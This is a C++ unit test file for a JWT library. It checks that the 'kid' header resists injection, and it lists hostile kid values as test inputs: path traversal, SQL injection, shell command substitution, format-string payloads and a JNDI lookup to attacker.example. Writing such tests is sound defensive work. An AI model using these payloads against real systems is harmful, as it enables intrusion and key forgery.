// SPDX-License-Identifier: Apache-2.0
// Copyright The simdjwt Authors
//
// The attack. The kid is the one text in a token that is used before anything is verified. Where it
// names a file, "../../dev/null" gives an empty key; where it goes into SQL, "' UNION SELECT 'k"
// gives a key of the attacker's choice; where it goes into a shell, it runs; where it is a C
// string, a NUL ends it early and another key is found.
//
// The defence. A kid is bytes, bounded in length, compared as a whole with the kids of the set, and
// nothing else. A kid that no key has finds no key: there is no fallback to the keys of others.

#include <gtest/gtest.h>

#include "support/judge.h"

namespace simdjwt::testing {
namespace {

std::string header_with_kid(std::string_view kid_json) {
  return R"({"alg":"HS256","kid":)" + std::string(kid_json) + "}";
}

KeySet named_keys() {
  std::vector<Key> keys;
  keys.push_back(make_key(kSecret, "key-1"));
  keys.push_back(make_key(kOtherSecret, "key-2"));
  return make_keys(std::move(keys));
}

TEST(KidInjection, FindsNoKey) {
  Judge judge(named_keys());
  for (const char* kid : {
           R"("../../../../dev/null")",
           R"("/dev/null")",
           R"("/proc/sys/kernel/randomize_va_space")",
           R"("file:///dev/null")",
           R"("key-1' UNION SELECT 'secret' -- ")",
           R"("' OR '1'='1")",
           R"("key-1; DROP TABLE keys")",
           R"("|sleep 10")",
           R"kid("$(sleep 10)")kid",
           R"("`id`")",
           R"("%s%s%s%n")",
           R"("${jndi:ldap://attacker.example/a}")",
           R"("key-1\u0000")",
           R"("\u0000key-1")",
           R"("key-1 ")",
           R"(" key-1")",
           R"("KEY-1")",
           R"("key-")",
           R"("key-10")",
           R"("key-3")",
           R"("")",
       }) {
    for (const std::string_view secret : {kSecret, kOtherSecret, std::string_view()}) {
      EXPECT_EQ(judge(forge(header_with_kid(kid), kClaims, secret)), Verdict::kNoMatchingKey)
          << kid;
    }
  }
}

TEST(KidInjection, AnUnknownKidDoesNotFallBackToTheOnlyKey) {
  std::vector<Key> keys;
  keys.push_back(make_key(kSecret, "only"));
  Judge judge(make_keys(std::move(keys)));
  EXPECT_EQ(judge(forge(header_with_kid(R"("other")"), kClaims)), Verdict::kNoMatchingKey);
  EXPECT_EQ(judge(forge(header_with_kid(R"("only")"), kClaims)), Verdict::kValid);
}

TEST(KidInjection, TheKidOfOneKeyDoesNotOpenAnother) {
  Judge judge(named_keys());
  EXPECT_EQ(judge(forge(header_with_kid(R"("key-1")"), kClaims)), Verdict::kValid);
  EXPECT_EQ(judge(forge(header_with_kid(R"("key-2")"), kClaims)), Verdict::kBadSignature);
  EXPECT_EQ(judge(forge(header_with_kid(R"("key-1")"), kClaims, kOtherSecret)),
            Verdict::kBadSignature);
}

TEST(KidInjection, EscapesAreTheSameKid) {
  Judge judge(named_keys());
  EXPECT_EQ(judge(forge(header_with_kid(R"("\u006bey\u002d1")"), kClaims)), Verdict::kValid);
  EXPECT_EQ(judge(forge(R"({"alg":"HS256","\u006bid":"key-1"})", kClaims)), Verdict::kValid);
}

TEST(KidInjection, AKidThatIsNotAStringIsRefused) {
  Judge judge(named_keys());
  for (const char* kid : {"null", "true", "1", "1.5", R"(["key-1"])", R"({"kid":"key-1"})", "[]"}) {
    EXPECT_EQ(judge(forge(header_with_kid(kid), kClaims)), Verdict::kBadHeaderParameter) << kid;
  }
  // Whether or not any key has a kid.
  Judge nameless;
  EXPECT_EQ(nameless(forge(header_with_kid("1"), kClaims)), Verdict::kBadHeaderParameter);
}

TEST(KidInjection, AKidIsBounded) {
  const std::string longest(kKidBytesMax, 'k');
  std::vector<Key> keys;
  keys.push_back(make_key(kSecret, longest));
  Judge judge(make_keys(std::move(keys)));
  EXPECT_EQ(judge(forge(header_with_kid('"' + longest + '"'), kClaims)), Verdict::kValid);
  EXPECT_EQ(judge(forge(header_with_kid('"' + longest + "k\""), kClaims)),
            Verdict::kBadHeaderParameter);
  EXPECT_FALSE(Key::hmac(Algorithm::kHs256, kSecret, {.kid = longest + 'k'}).ok());
  // The bound is of the kid, not of its spelling: six characters for one byte.
  std::string escaped;
  for (size_t i = 0; i < 150; ++i) escaped += "\\u006b";
  EXPECT_EQ(judge(forge(header_with_kid('"' + escaped + '"'), kClaims)), Verdict::kNoMatchingKey);
}

TEST(KidInjection, AKidMayHoldAnyText) {
  // Keys are found by bytes: what looks dangerous is only a name.
  for (const std::string kid : {"../../dev/null", "' OR '1'='1", "a b", "%s", "\xc3\xa9"}) {
    std::vector<Key> keys;
    keys.push_back(make_key(kSecret, kid));
    Judge judge(make_keys(std::move(keys)));
    EXPECT_EQ(judge(forge(header_with_kid('"' + kid + '"'), kClaims)), Verdict::kValid) << kid;
  }
}

}  // namespace
}  // namespace simdjwt::testing
